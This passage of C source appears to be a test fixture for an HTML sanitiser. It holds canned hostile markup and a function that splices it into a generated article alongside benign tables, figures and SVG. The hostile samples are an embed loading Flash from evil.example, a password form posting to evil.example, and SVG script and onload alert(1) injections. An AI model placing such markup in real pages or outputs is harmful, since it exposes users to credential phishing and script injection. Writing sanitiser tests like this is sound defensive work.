    "<embed src=\"https://evil.example/HOSTILE-EMBED.swf\" "
    "type=\"application/x-shockwave-flash\">\n\n"
    "<form action=\"https://evil.example/HOSTILE-FORM\" method=\"post\">"
    "<input type=\"password\" name=\"HOSTILE-INPUT\"><input "
    "type=\"submit\" value=\"Sign in\"></form>\n\n"
    "<svg width=\"20\" height=\"20\"><script>alert(1)//HOSTILE-SVGSCRIPT"
    "</script><circle cx=\"10\" cy=\"10\" r=\"8\" "
    "onload=\"alert(1)//HOSTILE-SVGONLOAD\"/></svg>\n";

/*
 * Harmless structure that must survive a sanitiser, each piece with a
 * BENIGN-* marker in its text.
 */
static const char canned_benign[] =
    "## At a Glance\n\n"
    "<table>\n"
    "<thead><tr><th>Aspect</th><th>Summary</th></tr></thead>\n"
    "<tbody>\n"
    "<tr><td>BENIGN-TABLE</td><td>Rows and cells stay as written.</td>"
    "</tr>\n"
    "<tr><td>Rollout</td><td>Gradual, observable and easy to reverse."
    "</td></tr>\n"
    "</tbody>\n"
    "</table>\n\n"
    "<figure><img src=\"https://example.com/standin/figure.png\" "
    "alt=\"A sketch of the request path\"><figcaption>BENIGN-FIGURE: the "
    "request path at a glance.</figcaption></figure>\n\n"
    "Two lines of the BENIGN-BR note:<br>measure first,<br>then change "
    "one thing at a time.\n\n"
    "<details><summary>BENIGN-DETAILS: how the numbers were taken"
    "</summary>\n<p>Each run was repeated five times and the median was "
    "kept.</p>\n</details>\n\n"
    "<svg width=\"48\" height=\"48\" viewBox=\"0 0 48 48\" role=\"img\">"
    "<desc>BENIGN-SVG</desc><circle cx=\"24\" cy=\"24\" r=\"20\" "
    "fill=\"#3b82f6\"/></svg>\n\n";

/*
 * The article of the "hostile" fault: a normal article (shorter, about
 * 520 to 640 words of prose, so that with the HTML it still fits the
 * worker's output cap) with canned_hostile_intro after the intro, and a
 * section of canned_benign and canned_hostile_embeds before the
 * conclusion.  Owned by the caller; never NULL.
 */
char *
canned_article_hostile(const char *prompt)
{
	struct buf	 b;
	char		*body, *takeaways, *conclusion;

	body = canned_article_sized(prompt, 520, 120);
	takeaways = strstr(body, "\n\n## Key Takeaways");
	conclusion = strstr(body, "\n## Conclusion");
	buf_init(&b);
	if (takeaways == NULL || conclusion == NULL || conclusion < takeaways) {
		/* not built as canned_article_sized() builds it: append */
		buf_puts(&b, body);
		buf_printf(&b, "\n\n%s\n\n%s\n%s", canned_hostile_intro,
		    canned_benign, canned_hostile_embeds);
		free(body);
		return (buf_detach(&b));
	}
	buf_append(&b, body, (size_t)(takeaways - body));
	buf_puts(&b, "\n\n");
	buf_puts(&b, canned_hostile_intro);
	buf_append(&b, takeaways, (size_t)(conclusion - takeaways));
	buf_puts(&b, "\n");
	buf_puts(&b, canned_benign);
	buf_puts(&b, canned_hostile_embeds);
	buf_puts(&b, conclusion);
	free(body);
	return (buf_detach(&b));
}
